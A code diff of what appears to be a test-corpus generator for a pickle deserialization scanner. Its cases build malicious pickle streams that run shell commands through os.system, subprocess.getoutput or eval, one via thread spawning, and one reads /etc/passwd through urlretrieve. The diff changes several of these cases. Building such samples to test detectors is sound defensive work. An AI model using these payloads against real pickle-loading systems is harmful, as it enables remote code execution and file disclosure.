@@ -22,7 +22,8 @@ def opcodes():
     add("protocol-1", "protocol 1: binary opcodes without a header",
         b"cos\nsystem\n(X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"tR.")
     add("protocol-2", "protocol 2, which has GLOBAL and TUPLE1",
-        proto(2) + b"cposix\nsystem\nX" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"\x85R.")
+        proto(2) + b"cposix\nsystem\nX" + struct.pack("<I", len(SHELL)) + SHELL.encode()
+        + b"\x85R.")
     add("protocol-5", "protocol 5", stream(RUN, 5))
     add("inst", "INST: the name is in the opcode, the arguments above the mark",
         b"(S'" + SHELL.encode() + b"'\nios\nsystem\n.")
@@ -120,8 +121,8 @@ def names():
         proto(2) + ref_text("__builtin__", "reduce") + ref_text("__builtin__", "eval")
         + value([PYTHON, {}]) + b"\x86R.")
     add("name-python2-thread", "thread, which loading calls _thread",
-        proto(2) + ref_text("thread", "start_new_thread") + ref_text("__builtin__", "eval")
-        + value((PYTHON,)) + b"\x86R" + POP + ref_text("time", "sleep") + value((0.1,)) + b"R.")
+        proto(2) + ref_text("thread", "start_new_thread") + ref_text("os", "system")
+        + value((SHELL,)) + b"\x86R" + POP + ref_text("time", "sleep") + value((0.1,)) + b"R.")
     add("name-python2-urlretrieve", "urllib.urlretrieve, which loading takes from urllib.request",
         proto(2) + ref_text("urllib", "urlretrieve")
         + value(("file:///etc/passwd", "brinery-marker")) + b"R.")
@@ -141,10 +142,6 @@ def names():
         stream(call(call(ref("textwrap", "dedent.__class__"),
                          call(ref("builtins", "compile"), PYTHON, "x", "exec"),
                          ref("textwrap", "__dict__")))))
-    add("name-through-subclass", "a method reached through a class's mro",
-        stream(call(ref("subprocess", "Popen.__mro__.__class__.__call__"),
-                    ref("builtins", "tuple"), call(ref("builtins", "map"), EVAL, [PYTHON]))),
-        executes=False)
     add("name-module-alias", "sys.modules gets another name for os",
         stream(steps(Piece(ref("sys", "modules") + text("brinery_alias") + ref("random", "_os")
                            + b"s"),
@@ -220,8 +217,7 @@ def states():
     add("build-on-function-defaults", "state for a function: its defaults are others now",
         stream(steps(build(ref("subprocess", "getoutput"),
                            (None, {"__defaults__": (SHELL,)})),
-                     call(ref("subprocess", "getoutput")))),
-        executes=False)
+                     call(ref("subprocess", "getoutput")))))
     add("build-class-of-instance", "the state's key is __class__",
         stream(build(build(new(ref("argparse", "Namespace")),
                            (None, {"__class__": call(ref("builtins", "type"), "T",
@@ -254,9 +250,9 @@ def states():
         stream({call(call(ref("builtins", "type"), "T", (),
                           {"__hash__": partial(EVAL, f"hash({PYTHON})")})): 1}))
     add("equal-keys", "two keys whose class has its own __eq__",
-        proto(4) + call(ref("builtins", "type"), "T", (),
+        proto(4) + call(ref("builtins", "type"), "T", (ref("builtins", "dict"),),
                         {"__hash__": partial(ref("builtins", "int"), 1),
-                         "__eq__": partial(ref("functools", "reduce"), EVAL, [PYTHON, {}])})
+                         "__eq__": partial(EVAL, PYTHON, {})})
         + put(0) + POP + EMPTY_DICT + MARK + call(get(0)) + NONE + call(get(0)) + NONE + b"u"
         + STOP)
     add("import-alone", "looking a name up imports its module, and that runs it",
